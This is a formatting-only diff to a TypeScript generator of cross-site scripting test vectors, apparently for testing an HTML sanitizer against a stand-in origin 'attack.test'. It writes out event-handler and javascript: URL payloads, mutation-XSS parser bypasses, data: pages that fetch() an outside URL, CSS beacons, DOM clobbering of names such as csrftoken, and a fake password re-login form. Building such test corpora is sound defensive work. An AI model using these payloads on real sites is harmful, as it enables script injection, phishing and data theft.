@@ -15,26 +15,79 @@ export interface Vector {
 export const ORIGIN = 'http://attack.test';
 
 type Make = (call: string, url: string) => string | { html: string; clobbers: string };
-const each = <A, B>(first: readonly A[], second: readonly B[]): [A, B][] => first.flatMap((one) => second.map((other): [A, B] => [one, other]));
+const each = <A, B>(first: readonly A[], second: readonly B[]): [A, B][] =>
+  first.flatMap((one) => second.map((other): [A, B] => [one, other]));
 const entities = (text: string): string => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
 const hex = (text: string): string => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('');
 
 /** Elements that fire by themselves or when they are pointed at, clicked or given the focus; `*` is the handler's code. */
 const HANDLERS = [
-  'img src=x onerror=*', 'img src=/none.png onerror=*', 'image src=x onerror=*', 'input type=image src=x onerror=*', 'video src=x onerror=*', 'audio src=x onerror=*',
-  'script src=http://127.0.0.1:1/x onerror=*', 'iframe onload=*', 'svg onload=*', 'style onload=*', 'link rel=stylesheet href="data:text/css," onload=*', 'details open ontoggle=*',
-  'input autofocus onfocus=*', 'a href=# onclick=*', 'a href=https://a.example onmouseover=*', 'p onmouseover=*', 'div onclick=*', 'h3 onpointerenter=*', 'strong onmouseenter=*', 'mark class=marker-pink onclick=*',
-  'blockquote onclick=*', 'ul onclick=*', 'button onclick=*', 'textarea onfocus=*', 'select onfocus=*', 'p tabindex=0 onfocus=*', 'p contenteditable onfocus=*', 'img src=/media/a.png onclick=*',
+  'img src=x onerror=*',
+  'img src=/none.png onerror=*',
+  'image src=x onerror=*',
+  'input type=image src=x onerror=*',
+  'video src=x onerror=*',
+  'audio src=x onerror=*',
+  'script src=http://127.0.0.1:1/x onerror=*',
+  'iframe onload=*',
+  'svg onload=*',
+  'style onload=*',
+  'link rel=stylesheet href="data:text/css," onload=*',
+  'details open ontoggle=*',
+  'input autofocus onfocus=*',
+  'a href=# onclick=*',
+  'a href=https://a.example onmouseover=*',
+  'p onmouseover=*',
+  'div onclick=*',
+  'h3 onpointerenter=*',
+  'strong onmouseenter=*',
+  'mark class=marker-pink onclick=*',
+  'blockquote onclick=*',
+  'ul onclick=*',
+  'button onclick=*',
+  'textarea onfocus=*',
+  'select onfocus=*',
+  'p tabindex=0 onfocus=*',
+  'p contenteditable onfocus=*',
+  'img src=/media/a.png onclick=*',
 ] as const;
 const SEPARATORS = [' ', '/', '\n', '\t', '\f'];
 
 function handlers(): Make[] {
-  const quoted: ((code: string) => string)[] = [(code) => `"${code}"`, (code) => `'${code}'`, (code) => code, (code) => `"${entities(code)}"`, (code) => `"${hex(code)}"`];
-  const plain = [...each(HANDLERS.slice(0, 14), quoted), ...each(HANDLERS.slice(14), quoted.slice(2, 4))].map(([tag, quote]): Make => (call) => `<${tag.replace('*', quote(call))}>x`);
-  const cased = HANDLERS.map((tag): Make => (call) => `<${tag.replace(/\bon(\w)(\w+)=\*/, (_, first: string, rest: string) => `oN${first.toUpperCase()}${rest}=*`).toUpperCase().replace('*', `"${call}"`)}>x`);
-  const apart = each(['img src=x onerror=*', 'svg onload=*', 'p onclick=*', 'details open ontoggle=*'], SEPARATORS).map(([tag, separator]): Make => (call) => `<${tag.replaceAll(' ', separator).replace('*', `"${call}"`)}>x`);
-  const nested = each(HANDLERS.slice(0, 16), ['<p><strong>*</strong></p>', '<ul><li>*</li></ul>', '<table><tbody><tr><td>*</td></tr></tbody></table>'])
-    .map(([tag, around]): Make => (call) => around.replace('*', `<${tag.replace('*', `"${call}"`)}>x`));
+  const quoted: ((code: string) => string)[] = [
+    (code) => `"${code}"`,
+    (code) => `'${code}'`,
+    (code) => code,
+    (code) => `"${entities(code)}"`,
+    (code) => `"${hex(code)}"`,
+  ];
+  const plain = [...each(HANDLERS.slice(0, 14), quoted), ...each(HANDLERS.slice(14), quoted.slice(2, 4))].map(
+    ([tag, quote]): Make =>
+      (call) =>
+        `<${tag.replace('*', quote(call))}>x`,
+  );
+  const cased = HANDLERS.map(
+    (tag): Make =>
+      (call) =>
+        `<${tag
+          .replace(/\bon(\w)(\w+)=\*/, (_, first: string, rest: string) => `oN${first.toUpperCase()}${rest}=*`)
+          .toUpperCase()
+          .replace('*', `"${call}"`)}>x`,
+  );
+  const apart = each(['img src=x onerror=*', 'svg onload=*', 'p onclick=*', 'details open ontoggle=*'], SEPARATORS).map(
+    ([tag, separator]): Make =>
+      (call) =>
+        `<${tag.replaceAll(' ', separator).replace('*', `"${call}"`)}>x`,
+  );
+  const nested = each(HANDLERS.slice(0, 16), [
+    '<p><strong>*</strong></p>',
+    '<ul><li>*</li></ul>',
+    '<table><tbody><tr><td>*</td></tr></tbody></table>',
+  ]).map(
+    ([tag, around]): Make =>
+      (call) =>
+        around.replace('*', `<${tag.replace('*', `"${call}"`)}>x`),
+  );
   const animated: Make[] = [
     (call) => `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${call}">x</p>`,
     (call) => `<style>@keyframes y{}</style><p style="animation:y 1ms" onanimationend="${call}">x</p>`,
@@ -71,40 +124,70 @@ const SCHEMES: ((call: string) => string)[] = [
   (call) => `javascript:void(${call})//mailto:a@b.example`,
 ];
 const CARRIERS = [
-  '<a href="*">x</a>', '<iframe src="*"></iframe>', '<form action="*"><button>x</button></form>', '<form><button formaction="*">x</button></form>', '<form><input type=submit formaction="*"></form>',
-  '<svg><a href="*"><text x=10 y=20>x</text></a></svg>', '<svg><a xlink:href="*"><text x=10 y=20>x</text></a></svg>', '<map name=m><area shape=default href="*"></map>', '<p><a href="*"><strong>x</strong></a></p>',
+  '<a href="*">x</a>',
+  '<iframe src="*"></iframe>',
+  '<form action="*"><button>x</button></form>',
+  '<form><button formaction="*">x</button></form>',
+  '<form><input type=submit formaction="*"></form>',
+  '<svg><a href="*"><text x=10 y=20>x</text></a></svg>',
+  '<svg><a xlink:href="*"><text x=10 y=20>x</text></a></svg>',
+  '<map name=m><area shape=default href="*"></map>',
+  '<p><a href="*"><strong>x</strong></a></p>',
 ];
 
 /** Elements that a browser reads by rules of their own, with what closes them hidden in an attribute, and the other way round. */
 const RAW = ['noscript', 'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'title', 'textarea', 'template'];
 
 function mutations(): Make[] {
-  const hidden = RAW.filter((name) => name !== 'template').map((name): Make => (call) => `<${name}><p title="</${name}><img src=x onerror=${call}>"></${name}>`);
-  const around = each(['<table>*</table>', '<select>*</select>', '<ul>*</ul>', '<p>*</p>', '<blockquote>*</blockquote>'], ['noscript', 'style', 'title', 'xmp', 'textarea', 'noembed'])
-    .map(([outer, name]): Make => (call) => outer.replace('*', () => `<${name}></${name}><${name}><a title="</${name}><img src=x onerror=${call}>"></${name}>`));
-  const foreign = each(['svg', 'math'], ['style', 'title', 'xmp', 'noscript', 'textarea', 'noembed'])
-    .map(([space, name]): Make => (call) => `<${space}><${name}><img src=x onerror=${call}></${name}></${space}>`);
+  const hidden = RAW.filter((name) => name !== 'template').map(
+    (name): Make =>
+      (call) =>
+        `<${name}><p title="</${name}><img src=x onerror=${call}>"></${name}>`,
+  );
+  const around = each(
+    ['<table>*</table>', '<select>*</select>', '<ul>*</ul>', '<p>*</p>', '<blockquote>*</blockquote>'],
+    ['noscript', 'style', 'title', 'xmp', 'textarea', 'noembed'],
+  ).map(
+    ([outer, name]): Make =>
+      (call) =>
+        outer.replace(
+          '*',
+          () => `<${name}></${name}><${name}><a title="</${name}><img src=x onerror=${call}>"></${name}>`,
+        ),
+  );
+  const foreign = each(['svg', 'math'], ['style', 'title', 'xmp', 'noscript', 'textarea', 'noembed']).map(
+    ([space, name]): Make =>
+      (call) =>
+        `<${space}><${name}><img src=x onerror=${call}></${name}></${space}>`,
+  );
   const known: Make[] = [
     (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
     (call) => `<math></p><style><!--</style><img src=x onerror=${call}>--></style>`,
     (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
-    (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call}&gt;">`,
+    (call) =>
+      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call}&gt;">`,
     (call) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror="${call}">`,
     (call) => `<svg><foreignObject><math><mtext><img src=x onerror=${call}></mtext></math></foreignObject></svg>`,
-    (call) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style><img src=x onerror=${call}></annotation-xml></math>`,
+    (call) =>
+      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style><img src=x onerror=${call}></annotation-xml></math>`,
     (call) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${call}>">`,
-    (call) => `<svg><desc><table><thead><s></table></s><table></table><style><!--</style></thead><p id="--><img src=x onerror=${call}>">`,
-    (call) => `<table><tr><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=${call}>"></style></svg></td></tr></table>`,
+    (call) =>
+      `<svg><desc><table><thead><s></table></s><table></table><style><!--</style></thead><p id="--><img src=x onerror=${call}>">`,
+    (call) =>
+      `<table><tr><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=${call}>"></style></svg></td></tr></table>`,
     (call) => `<select><svg><style><a title="</style></svg></select><img src=x onerror=${call}>">`,
-    (call) => `<template><s><template><s><img src=x onerror=${call}>@shafigullin</s></template></s></template><img src=x onerror=${call}>`,
+    (call) =>
+      `<template><s><template><s><img src=x onerror=${call}>@shafigullin</s></template></s></template><img src=x onerror=${call}>`,
     (call) => `<p><svg><style><p id="</style></svg><img src=x onerror=${call}>"></p>`,
     (call) => `<noscript><!--</noscript><img src=x onerror=${call}>--></noscript>`,
-    (call) => `<a href="</p><img src=x onerror=1>"><p title="</a><img src=x onerror=${call}>"></a><img src=x onerror=${call}>`,
+    (call) =>
+      `<a href="</p><img src=x onerror=1>"><p title="</a><img src=x onerror=${call}>"></a><img src=x onerror=${call}>`,
     (call) => `<b><table><b><img src=x onerror=${call}></table>`,
     (call) => `<math><mi><table><mi><style><img src=x onerror=${call}></style></mi></table><img src=x onerror=${call}>`,
     (call) => `<svg><p><style><g title="</style><img src onerror=${call}>">`,
     (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing><img src=x onerror=${call}>`,
-    (call) => `<plaintext><img src=x onerror=1></plaintext>`.replace('<plaintext>', `<img src=x onerror=${call}><plaintext>`),
+    (call) =>
+      `<plaintext><img src=x onerror=1></plaintext>`.replace('<plaintext>', `<img src=x onerror=${call}><plaintext>`),
   ];
   return [...hidden, ...around, ...foreign, ...known];
 }
@@ -112,19 +195,50 @@ function mutations(): Make[] {
 const DATA_PAGES: ((url: string) => string)[] = [
   (url) => `data:text/html,<script>fetch('${url}',{mode:'no-cors'})</script>`,
   (url) => `DATA:text/html;charset=utf-8,<script>fetch('${url}',{mode:'no-cors'})</script>`,
-  (url) => `data:text/html;base64,${Buffer.from(`<script>fetch('${url}',{mode:'no-cors'})</script>`).toString('base64')}`,
-  (url) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="fetch('${url}',{mode:'no-cors'})"/>`.replaceAll('"', '&quot;'),
+  (url) =>
+    `data:text/html;base64,${Buffer.from(`<script>fetch('${url}',{mode:'no-cors'})</script>`).toString('base64')}`,
+  (url) =>
+    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="fetch('${url}',{mode:'no-cors'})"/>`.replaceAll(
+      '"',
+      '&quot;',
+    ),
   (url) => `da&Tab;ta:text/html,<script>fetch('${url}',{mode:'no-cors'})</script>`,
 ];
 
-const NAMES = ['getElementById', 'body', 'cookie', 'forms', 'querySelector', 'createElement', 'currentScript', 'implementation'];
-const FORM_FIELDS = ['attributes', 'parentNode', 'childNodes', 'nodeName', 'removeChild', 'setAttribute', 'namespaceURI', 'textContent'];
+const NAMES = [
+  'getElementById',
+  'body',
+  'cookie',
+  'forms',
+  'querySelector',
+  'createElement',
+  'currentScript',
+  'implementation',
+];
+const FORM_FIELDS = [
+  'attributes',
+  'parentNode',
+  'childNodes',
+  'nodeName',
+  'removeChild',
+  'setAttribute',
+  'namespaceURI',
+  'textContent',
+];
 
 const FAMILIES: Record<string, readonly Make[]> = {
   handlers: handlers(),
-  'javascript addresses': [...each(CARRIERS.slice(0, 4), SCHEMES), ...each(CARRIERS.slice(4), SCHEMES.slice(0, 8))].map(([carrier, scheme]): Make => (call) => carrier.replace('*', () => scheme(call))),
+  'javascript addresses': [...each(CARRIERS.slice(0, 4), SCHEMES), ...each(CARRIERS.slice(4), SCHEMES.slice(0, 8))].map(
+    ([carrier, scheme]): Make =>
+      (call) =>
+        carrier.replace('*', () => scheme(call)),
+  ),
   'data addresses': [
-    ...each(['<iframe src="*"></iframe>', '<object data="*"></object>', '<embed src="*">'], DATA_PAGES).map(([carrier, page]): Make => (_call, url) => carrier.replace('*', () => page(url))),
+    ...each(['<iframe src="*"></iframe>', '<object data="*"></object>', '<embed src="*">'], DATA_PAGES).map(
+      ([carrier, page]): Make =>
+        (_call, url) =>
+          carrier.replace('*', () => page(url)),
+    ),
     (call) => `<script src="data:text/javascript,${call}"></script>`,
     (call) => `<script src="data:text/javascript;base64,${Buffer.from(call).toString('base64')}"></script>`,
     (_call, url) => `<link rel=stylesheet href="data:text/css,body{background:url(${url})}">`,
@@ -160,14 +274,36 @@ const FAMILIES: Record<string, readonly Make[]> = {
     (call) => `<math><mi><img src=x onerror="${call}"></mi></math>`,
     (call) => `<math><ms><svg onload="${call}"></svg></ms></math>`,
     (call) => `<math href="javascript:1"><mtext><a href="javascript:${call}">x</a></mtext></math>`,
-    (call) => `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror="${call}"></annotation-xml></math>`,
+    (call) =>
+      `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror="${call}"></annotation-xml></math>`,
     (call) => `<svg><use href="#u"></use><g id=u><a href="javascript:${call}"><text x=1 y=20>x</text></a></g></svg>`,
   ],
   mutation: mutations(),
   styles: [
-    ...['@import "*";', '@import url(*);', 'body{background:url(*)}', 'p{list-style:url(*) inside;display:list-item}', 'p{border-image:url(*) 1;border-style:solid}', 'p::before{content:url(*)}'].map((rule): Make => (_call, url) => `<style>${rule.replace('*', url)}</style><p>x</p>`),
-    ...['background:url(*)', 'background-image:url("*")', "background:\\75rl('*')", 'list-style-image:url(*);display:list-item', 'border-image:url(*) 1;border-style:solid', 'cursor:url(*),auto;background:url(*)', '-webkit-mask:url(*);background:image-set(url(*) 1x)'].map(
-      (style): Make => (_call, url) => `<p style='${style.replaceAll('*', url)}'>x</p>`,
+    ...[
+      '@import "*";',
+      '@import url(*);',
+      'body{background:url(*)}',
+      'p{list-style:url(*) inside;display:list-item}',
+      'p{border-image:url(*) 1;border-style:solid}',
+      'p::before{content:url(*)}',
+    ].map(
+      (rule): Make =>
+        (_call, url) =>
+          `<style>${rule.replace('*', url)}</style><p>x</p>`,
+    ),
+    ...[
+      'background:url(*)',
+      'background-image:url("*")',
+      "background:\\75rl('*')",
+      'list-style-image:url(*);display:list-item',
+      'border-image:url(*) 1;border-style:solid',
+      'cursor:url(*),auto;background:url(*)',
+      '-webkit-mask:url(*);background:image-set(url(*) 1x)',
+    ].map(
+      (style): Make =>
+        (_call, url) =>
+          `<p style='${style.replaceAll('*', url)}'>x</p>`,
     ),
     (_call, url) => `<link rel=stylesheet href="${url}">`,
     (_call, url) => `<svg><style>@import "${url}";</style></svg>`,
@@ -196,17 +332,36 @@ const FAMILIES: Record<string, readonly Make[]> = {
     (_call, url) => `<form><button formaction="${url}">x</button></form>`,
     (_call, url) => `<form><input type=image formaction="${url}" src="/media/a.png"></form>`,
     (_call, url) => `<form id=f1 action="${url}"></form><button form=f1>x</button>`,
-    (_call, url) => `<form action="${url}"><p><input name=password type=password><button>Sign in again</button></p></form>`,
+    (_call, url) =>
+      `<form action="${url}"><p><input name=password type=password><button>Sign in again</button></p></form>`,
   ],
   clobbering: [
-    ...NAMES.map((name): Make => () => ({ html: `<img name=${name} src=/media/a.png>`, clobbers: `document.${name} instanceof HTMLElement && document.${name}.tagName === 'IMG'` })),
-    ...NAMES.map((name): Make => () => ({ html: `<form name="${name}"></form>`, clobbers: `document.${name} instanceof HTMLFormElement` })),
-    ...FORM_FIELDS.map((field): Make => () => ({ html: `<form class=k><input name=${field}></form>`, clobbers: `document.querySelector && document.getElementsByClassName('k')[0]?.${field} instanceof HTMLInputElement` })),
+    ...NAMES.map((name): Make => () => ({
+      html: `<img name=${name} src=/media/a.png>`,
+      clobbers: `document.${name} instanceof HTMLElement && document.${name}.tagName === 'IMG'`,
+    })),
+    ...NAMES.map((name): Make => () => ({
+      html: `<form name="${name}"></form>`,
+      clobbers: `document.${name} instanceof HTMLFormElement`,
+    })),
+    ...FORM_FIELDS.map((field): Make => () => ({
+      html: `<form class=k><input name=${field}></form>`,
+      clobbers: `document.querySelector && document.getElementsByClassName('k')[0]?.${field} instanceof HTMLInputElement`,
+    })),
     ...['config', 'csrftoken', '__NONCE__', 'settings', 'require', 'process'].flatMap((name): Make[] => [
-      () => ({ html: `<a id=${name} href="https://a.example">x</a>`, clobbers: `window['${name}'] instanceof HTMLElement` }),
-      () => ({ html: `<a id=${name}></a><a id=${name} name=url href="x:y">x</a>`, clobbers: `window['${name}']?.url instanceof HTMLElement` }),
+      () => ({
+        html: `<a id=${name} href="https://a.example">x</a>`,
+        clobbers: `window['${name}'] instanceof HTMLElement`,
+      }),
+      () => ({
+        html: `<a id=${name}></a><a id=${name} name=url href="x:y">x</a>`,
+        clobbers: `window['${name}']?.url instanceof HTMLElement`,
+      }),
       () => ({ html: `<p id="${name}">x</p>`, clobbers: `window['${name}'] instanceof HTMLElement` }),
-      () => ({ html: `<iframe name=${name} srcdoc="x"></iframe>`, clobbers: `window['${name}'] !== undefined && window['${name}'].window === window['${name}']` }),
+      () => ({
+        html: `<iframe name=${name} srcdoc="x"></iframe>`,
+        clobbers: `window['${name}'] !== undefined && window['${name}'].window === window['${name}']`,
+      }),
     ]),
   ],
   'comments and instructions': [
@@ -274,7 +429,8 @@ const FAMILIES: Record<string, readonly Make[]> = {
     (_call, url) => `<object data="${url}"></object>`,
     (_call, url) => `<embed src="${url}">`,
     (_call, url) => `<svg><image href="${url}"/></svg>`,
-    (_call, url) => `<svg><filter id=z><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#z)"/></svg>`,
+    (_call, url) =>
+      `<svg><filter id=z><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#z)"/></svg>`,
     (_call, url) => `<base href="${url}/"><img src="x">`,
     (_call, url) => `<link rel=preload as=image href="${url}">`,
     (_call, url) => `<link rel=prefetch href="${url}">`,
